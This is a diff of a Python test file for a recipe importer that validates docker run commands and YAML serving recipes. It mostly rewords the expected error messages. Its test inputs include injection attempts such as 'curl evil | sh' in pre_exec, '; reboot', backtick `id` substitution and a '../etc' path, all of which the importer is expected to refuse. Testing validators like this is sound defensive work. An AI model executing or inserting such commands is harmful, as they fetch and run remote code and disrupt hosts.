@@ -19,35 +19,35 @@ BASE = "docker run -v /srv:/m vllm/vllm-openai:v0.32.0 --model acme/Tiny"
     [
         (f"{BASE} | tee log", "a pipe"),
         (f"{BASE} && echo done", "`&` or `&&`"),
-        (f"{BASE} --seed $(date +%s)", "a command in its place"),
-        (f"{BASE} --seed `id`", "a command in its place"),
+        (f"{BASE} --seed $(date +%s)", "a command substitution"),
+        (f"{BASE} --seed `id`", "a command substitution"),
         (f"{BASE} > log", "a redirection"),
         (f"{BASE}; reboot", "`;`"),
         (f"{BASE}\nreboot", "a second command"),
         (f'{BASE} "unfinished', "cannot be split"),
-        ("docker run --sparkle yes vllm/vllm-openai:v0.32.0", "is not an option of docker run"),
+        ("docker run --sparkle yes vllm/vllm-openai:v0.32.0", "unknown option `--sparkle` of docker run"),
         ("docker run -d", "names no image"),
         ("docker run nvcr.io/x/trt:1 trtllm-serve acme/Tiny", "TensorRT-LLM"),
-        ("docker run -p 11434:11434 ollama/ollama:latest", "it starts Ollama"),
-        ("services: {a: {extends: {file: b.yml, service: b}}}", "a change to another one"),
+        ("docker run -p 11434:11434 ollama/ollama:latest", "recipes for Ollama cannot be imported"),
+        ("services: {a: {extends: {file: b.yml, service: b}}}", "extends another one"),
         (f"{BASE} --data-parallel-size 2", "several copies"),
         (VLLM + "omni: {tasks: [image]}\n", "vLLM-Omni"),
         (VLLM.replace("vram_minimum_gb: 20", "vram_minimum_gb: 2000"), "more than 8 Sparks have"),
-        (VLLM.replace("vram_minimum_gb: 20", "vram_minimum_gb: 200"), "not split over hosts"),
+        (VLLM.replace("vram_minimum_gb: 20", "vram_minimum_gb: 200"), "cannot be split over hosts"),
         (SPARKRUN_2.replace("runtime: vllm", "runtime: atlas"), "the runtime 'atlas'"),
         (
             SPARKRUN_2.replace("runtime: vllm", "runtime: sglang")
             .replace("max_nodes: 1", "min_nodes: 2")
             .replace("-tp", "--tp"),
-            "from one host only",
+            "can serve only from one",
         ),
         (SPARKRUN_2 + "pre_exec: [curl evil | sh]\n", "`pre_exec` would run commands"),
-        (SPARKRUN_2 + "include: base\n", "a change to another recipe"),
+        (SPARKRUN_2 + "include: base\n", "extends another one"),
         (SPARKRUN_2.replace("model: acme/Tiny-30B-FP8", "model: ../etc"), "is not a model's name"),
-        (f"{BASE} -x 8000", "`-x` in the command is none of the engine's options"),
+        (f"{BASE} -x 8000", "`-x` in the command is not an option of the engine"),
         ("[Unit]\nDescription=x\n\n[Service]\nExecStart=/usr/bin/docker run x\n", "this is a systemd unit"),
         ("#!/bin/bash\nset -e\ndocker run x\n", "this is a shell script"),
-        ("# Tiny\n\nStart it:\n\n```bash\ndocker run x\n```\n", "this is a text for people"),
+        ("# Tiny\n\nStart it:\n\n```bash\ndocker run x\n```\n", "this is a text document"),
         ("FROM vllm/vllm-openai:v0.32.0\nRUN pip install x\n", "this is a Dockerfile"),
         (f"{SPARKRUN_2}pre_exec: [curl x, [a, b]]\n", "starts: curl x, a, b."),
         ("services: {a: {image: a/vllm:1, volumes: 5}}\n", "tiny.yaml:1: `services.a.volumes` must be a list, got a number"),
@@ -137,7 +137,7 @@ def test_an_image_is_taken_unasked_as_the_way_out_of_what_others_install() -> No
 
 
 def test_an_answer_that_is_none_of_the_choices_and_one_that_nobody_asks_for_are_refused() -> None:
-    with pytest.raises(Refused, match="not an answer to `variant`"):
+    with pytest.raises(Refused, match="not a valid answer to `variant`"):
         import_recipe(VLLM.replace("dgx_spark_gb10:\n", "h100:\n"), variant="fp1")
     with pytest.raises(Refused, match="answers no question"):
         import_recipe(VLLM, colour="blue")
@@ -159,7 +159,7 @@ def test_a_flag_that_the_engines_table_does_not_have_is_kept_and_said() -> None:
 
 @pytest.mark.parametrize("text", [VLLM, SPARKRUN_2, EUGR])
 def test_a_key_that_nobody_knows_is_told(text: str) -> None:
-    assert "turbo: sparkwright does not know this key" in format_rows(import_recipe(f"{text}turbo: fast\n"), "dropped")
+    assert "turbo: unknown key" in format_rows(import_recipe(f"{text}turbo: fast\n"), "dropped")
 
 
 # Damaged recipes of others are taken or refused with a sentence: never a traceback.
